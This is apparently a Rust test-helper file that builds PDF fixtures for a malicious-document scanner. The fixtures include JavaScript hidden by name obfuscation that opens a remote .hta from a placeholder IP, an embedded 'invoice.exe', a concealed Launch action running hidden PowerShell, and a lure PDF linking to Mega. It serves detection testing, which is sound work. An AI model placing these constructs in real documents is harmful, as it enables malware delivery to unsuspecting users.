//! PDF fixtures written byte by byte at test time, with a correct
//! cross-reference table, so both the raw scan and lopdf see them.
#![allow(dead_code)]

use std::io::Write;

use flate2::Compression;
use flate2::write::ZlibEncoder;

/// Collects object bodies and writes a complete file.
#[derive(Default)]
pub struct PdfBuilder {
    objects: Vec<Vec<u8>>,
}

impl PdfBuilder {
    /// Adds an object body (without `n 0 obj` / `endobj`); returns its number.
    pub fn add(&mut self, body: &[u8]) -> usize {
        self.objects.push(body.to_vec());
        self.objects.len()
    }

    /// Adds a stream object with `dict_entries` plus a correct `/Length`.
    pub fn add_stream(&mut self, dict_entries: &str, data: &[u8]) -> usize {
        let mut body = format!("<< {dict_entries} /Length {} >>\nstream\n", data.len()).into_bytes();
        body.extend_from_slice(data);
        body.extend_from_slice(b"\nendstream");
        self.add(&body)
    }

    /// Writes header, objects, xref table and trailer.
    pub fn finish(&self, root: usize, info: Option<usize>) -> Vec<u8> {
        let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
        let mut offsets = Vec::new();
        for (index, body) in self.objects.iter().enumerate() {
            offsets.push(out.len());
            out.extend_from_slice(format!("{} 0 obj\n", index + 1).as_bytes());
            out.extend_from_slice(body);
            out.extend_from_slice(b"\nendobj\n");
        }
        let xref = out.len();
        out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", self.objects.len() + 1).as_bytes());
        for offset in offsets {
            out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
        }
        let info = info.map(|info| format!(" /Info {info} 0 R")).unwrap_or_default();
        let trailer = format!(
            "trailer\n<< /Size {} /Root {root} 0 R{info} >>\nstartxref\n{xref}\n%%EOF\n",
            self.objects.len() + 1
        );
        out.extend_from_slice(trailer.as_bytes());
        out
    }
}

pub fn zlib(data: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(data).expect("write to Vec");
    encoder.finish().expect("finish to Vec")
}

/// UTF-16BE with BOM, as a hex string body.
pub fn utf16_hex(text: &str) -> String {
    let mut hex = String::from("FEFF");
    for unit in text.encode_utf16() {
        hex.push_str(&format!("{unit:04X}"));
    }
    hex
}

pub const MEGA_URI: &str = "https://mega.nz/#!HxtDEK6Q!WbjLgA3bbfVzQvtWmqEyKAfn3SLqVlY702dPPBfB-3A";

/// Pages tree with one page; `page_extra` goes into the page dictionary.
fn one_page(pdf: &mut PdfBuilder, page_extra: &str) -> usize {
    // Objects 1 and 2 are reserved for the catalog and the page tree.
    let pages = 2;
    pdf.add(format!("<< /Type /Page /Parent {pages} 0 R /MediaBox [0 0 595 842] {page_extra} >>").as_bytes())
}

/// Seed 000's instruction PDF, as far as its write-up describes it: doPDF
/// 8.7 build 943, created 2016-10-30 18:42:15 JST, a link to a Mega file.
pub fn seed000_instructions() -> Vec<u8> {
    let mut pdf = PdfBuilder::default();
    pdf.add(b"<< /Type /Catalog /Pages 2 0 R >>");
    pdf.add(b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>");
    let title = utf16_hex("ウイルス除去手順");
    pdf.add(
        format!(
            "<< /Title <{title}> /Creator (doPDF Ver 8.7 Build 943) /Producer (doPDF Ver 8.7 Build 943) \
             /CreationDate (D:20161030184215+09'00') /ModDate (D:20161030184215+09'00') >>"
        )
        .as_bytes(),
    );
    one_page(&mut pdf, "/Annots [5 0 R]");
    pdf.add(
        format!("<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI ({MEGA_URI}) >> >>").as_bytes(),
    );
    pdf.finish(1, Some(3))
}

/// `/OpenAction` running JavaScript, the action type written `/J#61vaScript`.
pub fn javascript_open_action() -> Vec<u8> {
    let mut pdf = PdfBuilder::default();
    pdf.add(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>");
    pdf.add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    one_page(&mut pdf, "");
    pdf.add(b"<< /Type /Action /S /J#61vaScript /JS (app.launchURL\\(\"http://198.51.100.9/a.hta\", true\\);) >>");
    pdf.finish(1, None)
}

/// An embedded file named `invoice.exe` holding a PE header.
pub fn embedded_exe() -> Vec<u8> {
    let mut pdf = PdfBuilder::default();
    pdf.add(b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(invoice.exe) 4 0 R] >> >> >>");
    pdf.add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    one_page(&mut pdf, "");
    pdf.add(b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 5 0 R >> >>");
    pdf.add_stream(
        "/Type /EmbeddedFile",
        b"MZ\x90\x00\x03\x00\x00\x00 This program cannot be run in DOS mode.",
    );
    pdf.finish(1, None)
}

/// A `/Launch` action that exists only inside a FlateDecode'd object stream.
pub fn objstm_launch() -> Vec<u8> {
    let mut pdf = PdfBuilder::default();
    pdf.add(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>");
    pdf.add(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
    one_page(&mut pdf, "");
    let object = b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c powershell -w hidden -nop) >> >>";
    let header = b"5 0 ";
    let mut content = header.to_vec();
    content.extend_from_slice(object);
    let entries = format!("/Type /ObjStm /N 1 /First {} /Filter /FlateDecode", header.len());
    pdf.add_stream(&entries, &zlib(&content));
    pdf.finish(1, None)
}

/// Every fixture, for hostile tests that mutate them.
pub fn all_fixtures() -> Vec<Vec<u8>> {
    vec![
        seed000_instructions(),
        javascript_open_action(),
        embedded_exe(),
        objstm_launch(),
    ]
}

/// xorshift64: reproducible noise without a dependency.
pub struct XorShift(pub u64);

impl XorShift {
    pub fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    pub fn below(&mut self, bound: usize) -> usize {
        (self.next() % bound.max(1) as u64) as usize
    }
}
